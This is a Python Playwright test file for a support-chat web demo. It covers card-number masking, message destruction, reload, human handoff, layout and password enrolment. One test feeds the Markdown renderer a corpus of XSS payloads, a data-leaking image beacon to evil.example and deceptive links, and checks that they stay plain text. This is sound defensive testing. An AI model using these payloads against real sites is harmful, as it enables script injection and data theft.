from __future__ import annotations

import json
import re
import uuid

from playwright.sync_api import Page, expect

from tests.web.demo.conftest import Open
from tests.world.gateway import Gateway

CARD = "My card is 4111 1111 1111 1111, please refund me."


def ready(page: Page) -> Page:
    expect(page.locator("#link-dot")).to_have_attribute("data-state", "on", timeout=20_000)
    return page


def say(page: Page, text: str) -> None:
    page.fill("#text", text)
    page.press("#text", "Enter")


def test_a_question_is_answered_once_on_the_screen(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    say(page, "How do I reset my password?")
    expect(page.locator(".message[data-from=bot][data-state=live]")).to_have_count(1)
    expect(page.locator(".message[data-from=client]")).to_have_count(1)
    expect(page.locator("[data-state=partial]")).to_have_count(0)


def test_a_card_number_is_masked_and_explained_and_counts_down(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    page.fill("#text", CARD)
    expect(page.locator("#hint")).to_contain_text("looks like a card number")
    assert page.evaluate("sessionStorage.getItem('chatwarden.draft')") is None
    page.press("#text", "Enter")
    own = page.locator(".message[data-from=client][data-state=live]")
    expect(own.locator("mark")).to_have_text(re.compile("•"))
    expect(own.locator(".note")).to_have_text("Your card number was hidden. The bot never sees it.")
    expect(own.locator(".left")).to_have_text(re.compile(r"^\d+ (min|s) left$"))
    assert "4111 1111 1111 1111" not in page.content()


def test_destroy_now_asks_once_and_leaves_a_tombstone_with_its_receipt(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    say(page, CARD)
    page.locator(".message[data-from=client] .destroy").click()
    page.get_by_role("button", name="Yes, destroy").click()
    grave = page.locator(".message[data-from=client] .tombstone")
    expect(grave).to_contain_text("you asked for it")
    expect(grave.locator("code")).to_have_text(re.compile(r"^\w+_[0-9a-f]{32}$"))
    assert "refund me" not in page.locator(".message[data-from=client]").inner_text()


def test_a_reload_brings_the_same_conversation_back(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    say(page, "What does a refund cost?")
    expect(page.locator(".message[data-from=bot][data-state=live]")).to_have_count(1)
    page.reload()
    expect(page.locator(".message")).to_have_count(2)


def test_asking_for_a_person_is_told(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    page.click("#person")
    expect(page.locator(".line[data-kind=handoff]")).to_contain_text("A person has been asked for")


def test_a_phone_has_no_horizontal_scroll(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway, viewport={"width": 360, "height": 740}))
    say(page, "x" * 400)
    expect(page.locator(".message")).to_have_count(2)
    assert page.evaluate("document.documentElement.scrollWidth") == 360


def test_the_theme_follows_the_system_until_it_is_chosen(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway, color_scheme="dark"))
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(ground)
    page.click("#theme")
    assert page.evaluate(ground) != dark


def test_hostile_text_stays_text(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    corpus = [
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![beacon](https://evil.example/x.png?q=secret)",
        "<svg/onload=alert(1)>",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[bank](https://bank.example@evil.example/)",
        "<math><mtext></table><mglyph><style><!--</style><img src onerror=alert(1)>",
    ]
    drawn = page.evaluate(
        """async (corpus) => {
          const { Writer } = await import("/demo/markdown.js");
          return corpus.map((text) => {
            const box = document.createElement("div");
            new Writer(text).markdown(box);
            const tags = [...box.querySelectorAll("*")].map((e) => e.localName);
            return { text: box.textContent, tags };
          });
        }""",
        corpus,
    )
    for text, result in zip(corpus, drawn, strict=True):
        assert result["text"] == text
        assert set(result["tags"]) == {"p"}


def test_a_link_shows_its_real_host(gateway: Gateway, open_demo: Open) -> None:
    page = ready(open_demo(gateway))
    text, rel = page.evaluate(
        """async () => {
          const { Writer } = await import("/demo/markdown.js");
          const box = document.createElement("div");
          new Writer("[your bank](https://evil.example/login)").markdown(box);
          return [box.textContent, box.querySelector("a").rel];
        }"""
    )
    assert text == "your bank (evil.example)"
    assert rel == "noopener noreferrer"


def test_a_person_chooses_a_password_behind_the_enrolment_link(gateway: Gateway, open_demo: Open) -> None:
    name = f"ida{uuid.uuid4().hex[:8]}"
    shown = json.loads(gateway.command("user", "add", name, "--role", "customer", "--json").stdout)
    page = open_demo(gateway)
    page.goto(f"{gateway.url}/enrol#{shown['enrolment_link'].partition('#')[2]}")
    fields = page.locator("input[type=password]")
    fields.nth(0).fill("a long enough password")
    fields.nth(1).fill("a long enough password")
    page.get_by_role("button", name="Save the password").click()
    expect(page.get_by_text(f"You can sign in as {name} now")).to_be_visible()
    login = gateway.call("POST", "/api/v1/session", {"username": name, "password": "a long enough password"})
    assert login.status == 201
